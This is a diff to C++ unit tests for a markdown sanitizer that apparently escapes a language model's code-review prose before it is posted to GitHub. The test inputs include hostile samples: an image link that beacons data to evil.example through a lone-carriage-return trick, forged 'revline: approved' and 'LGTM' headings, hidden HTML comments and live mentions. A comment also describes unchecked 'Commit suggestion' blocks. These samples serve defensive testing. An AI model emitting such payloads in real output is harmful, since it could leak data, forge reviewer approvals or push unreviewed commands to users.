@@ -32,9 +32,11 @@ TEST(MarkdownText, AFenceLeftOpenIsClosed) {
   EXPECT_EQ(markdownProse("````\n```\nstill code"), "````\n```\nstill code\n````");
 }
 
-TEST(MarkdownText, AFenceAfterOtherTextOnItsLineIsNoFence) {
-  // "**Suggested fix:** ```" opens no block, so the next line is escaped.
-  EXPECT_EQ(markdownProse("```\n<!-- hide", false), "\\`\\`\\`\n&lt;!-- hide");
+TEST(MarkdownText, AFenceAfterOtherTextOnItsLineGoesOnALineOfItsOwn) {
+  // "**Suggested fix:** ```python" opened no block, and the fix's closing fence
+  // opened one that took the rest of the comment: the block starts a line now.
+  EXPECT_EQ(markdownProse("```python\nx = 1\n```\n<!-- hide", false), "\n```python\nx = 1\n```\n&lt;!-- hide");
+  EXPECT_EQ(markdownProse("see ```\n<!-- hide", false), "see \\`\\`\\`\n&lt;!-- hide");
   EXPECT_EQ(markdownProse("```\n<!-- x", true), "```\n<!-- x\n```");
 }
 
@@ -78,6 +80,15 @@ TEST(MarkdownText, AFenceInsideAListOrQuoteOfTheTextIsWrittenAtTheTop) {
   EXPECT_EQ(markdownProse("> q\n> ```\n``````\n```"), "> q\n> \\`\\`\\`\n````\n```\n````");
 }
 
+// CommonMark ends a line at a lone "\r" too: a code span revline kept raw on
+// what it took for one line held "\r\r", ended the paragraph there, and the
+// image, the HTML and the mention after it rendered (a review of this change).
+TEST(MarkdownText, ALoneCarriageReturnEndsALineAsCommonMarkReadsIt) {
+  EXPECT_EQ(markdownProse("see x`\r\r![a](https://evil.example/?d=S)\r\r<img src=x>\r\r@octocat`"),
+            "see x\\`\n\n!\\[a](https://evil.example/?d=S)\n\n&lt;img src=x>\n\n@&#8203;octocat\\`");
+  EXPECT_EQ(markdownProse("a\r\nb"), "a\nb");
+}
+
 // A `suggestion` block in the model's prose was a one-click "Commit suggestion"
 // of text no check of an edit saw (a withheld fix's replacement, a command).
 // Blocks that GitHub renders as something else lose their language too.
@@ -96,7 +107,13 @@ TEST(MarkdownText, EscapedMentionsHeadingsAndReferencesAreText) {
   EXPECT_EQ(markdownProse("thanks \\@octocat and \\@github/security"),
             "thanks \\@&#8203;octocat and \\@&#8203;github/security");
   EXPECT_EQ(markdownProse("ok\n### revline: approved\n  # h"), "ok\n\\### revline: approved\n  \\# h");
-  EXPECT_EQ(markdownProse("fixes #12 and owner/repo#7, C# and &#60;"), "fixes #&#8203;12 and owner/repo#&#8203;7, C# and &#60;");
+  EXPECT_EQ(markdownProse("fixes #12 and owner/repo#7, GH-9, C#"),
+            "fixes #&#8203;12 and owner/repo#&#8203;7, GH-&#8203;9, C#");
+  // Entities are shown as written: "&#64;name" and "&#35;12" decoded to a live mention and reference.
+  EXPECT_EQ(markdownProse("&#64;octocat &#35;12 A & B"), "&amp;#&#8203;64;octocat &amp;#&#8203;35;12 A &amp; B");
+  // Headings after a list's or a quote's marker, and setext underlines, are text too.
+  EXPECT_EQ(markdownProse("> ### LGTM\n- ## ok\n1. # x"), "> \\### LGTM\n- \\## ok\n1. \\# x");
+  EXPECT_EQ(markdownProse("revline: approved\n===\nfine\n  ---"), "revline: approved\n\\===\nfine\n  \\---");
 }
 
 TEST(MarkdownText, OneLineTextStaysOnOneLine) {
